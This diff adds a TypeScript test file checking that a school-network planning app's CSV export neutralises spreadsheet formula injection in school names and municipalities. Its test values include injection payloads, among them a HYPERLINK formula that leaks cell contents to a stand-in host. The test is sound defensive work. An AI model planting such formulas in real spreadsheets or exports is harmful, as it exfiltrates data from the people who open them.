@@ -1,0 +1,102 @@
+import { execFileSync } from 'node:child_process';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { FastifyInstance } from 'fastify';
+import { buildApp } from '../app.js';
+import { createTestAccount } from '../testing/accounts.js';
+import type { KyselyStore } from '../storage/kysely-store.js';
+import { createTempStore, makeResult } from '../testing/fixtures.js';
+import { PLANNING_INPUTS_META_KEY } from './plan-data.js';
+
+const NOW = new Date('2026-03-10T12:00:00.000Z');
+const HOUR_MS = 3_600_000;
+
+/** Parses CSV with Python's csv module: a reader skolnet did not write. */
+function readCsv(text: string): string[][] {
+  const out = execFileSync(
+    'python3',
+    ['-c', 'import csv,json,sys;print(json.dumps(list(csv.reader(sys.stdin.read().splitlines(True)))))'],
+    { input: text, encoding: 'utf8' },
+  );
+  return JSON.parse(out) as string[][];
+}
+
+/**
+ * School names and municipalities are chosen by whoever has the admin
+ * credential; a spreadsheet must show them as text, not run them
+ * (issue item 8).
+ */
+describe('plan CSV export through the HTTP API', () => {
+  let app: FastifyInstance;
+  let store: KyselyStore;
+  let cleanup: () => Promise<void>;
+
+  beforeEach(async () => {
+    ({ store, cleanup } = await createTempStore());
+    app = buildApp({ store, logger: false, dashboardAssets: false, config: { now: () => NOW } });
+  });
+  afterEach(async () => {
+    await app.close();
+    await cleanup();
+  });
+
+  async function schoolInPlan(name: string, municipality: string): Promise<string> {
+    const token = (await createTestAccount(store)).token;
+    const res = await app.inject({
+      method: 'POST',
+      url: '/api/v1/schools',
+      headers: { authorization: `Bearer ${token}` },
+      payload: { name, municipality, pupils: 200 },
+    });
+    expect(res.statusCode).toBe(201);
+    const id = res.json<{ id: string }>().id;
+    const code = await store.createEnrollmentCode(id, HOUR_MS);
+    const agent = await store.redeemEnrollmentCode(code.code, { hostname: 'h', agent_version: '1' }, NOW);
+    const at = new Date(NOW.getTime() - HOUR_MS).toISOString();
+    await store.insertResults([
+      makeResult(agent.agent_id, id, {
+        measurement: 'throughput',
+        fields: { download_mbps: 20 },
+        tags: {},
+        at,
+      }),
+      makeResult(agent.agent_id, id, { fields: { rtt_avg_ms: 60, loss_pct: 0.5 }, at }),
+    ]);
+    return id;
+  }
+
+  it.each([
+    ['=HYPERLINK("http://example.invalid/?leak="&A1,"Klikšķini")', '@SUM(1+1)'],
+    ['+1+1', '-2+3'],
+    ['=1+1', 'Vik'],
+  ])('writes the name %s and municipality %s as text', async (name, municipality) => {
+    const ids = [await schoolInPlan(name, municipality)];
+    await store.setMeta(
+      PLANNING_INPUTS_META_KEY,
+      JSON.stringify({
+        version: 1,
+        schools: ids.map((school_id) => ({
+          school_id,
+          inventory: {
+            line: { technology: 'dsl', down_mbps: 30, fibre_distance_m: 500 },
+            teaching_rooms: 12,
+            uncovered_rooms: 6,
+            wifi_coverage_share: 0.5,
+          },
+        })),
+      }),
+    );
+    const res = await app.inject({ method: 'GET', url: '/api/v1/plan?format=csv&budget=1000000' });
+    expect(res.statusCode).toBe(200);
+    const [header, ...rows] = readCsv(res.body);
+    expect(rows.length).toBeGreaterThan(0);
+    const nameAt = header!.indexOf('school_name');
+    const municipalityAt = header!.indexOf('municipality');
+    for (const row of rows) {
+      // Every text cell is safe: nothing starts a formula.
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      // And nothing is lost: the prefix is the only change.
+      expect(row[nameAt]).toBe(`'${name}`);
+      expect(row[municipalityAt]).toBe(/^[=+\-@]/.test(municipality) ? `'${municipality}` : municipality);
+    }
+  });
+});
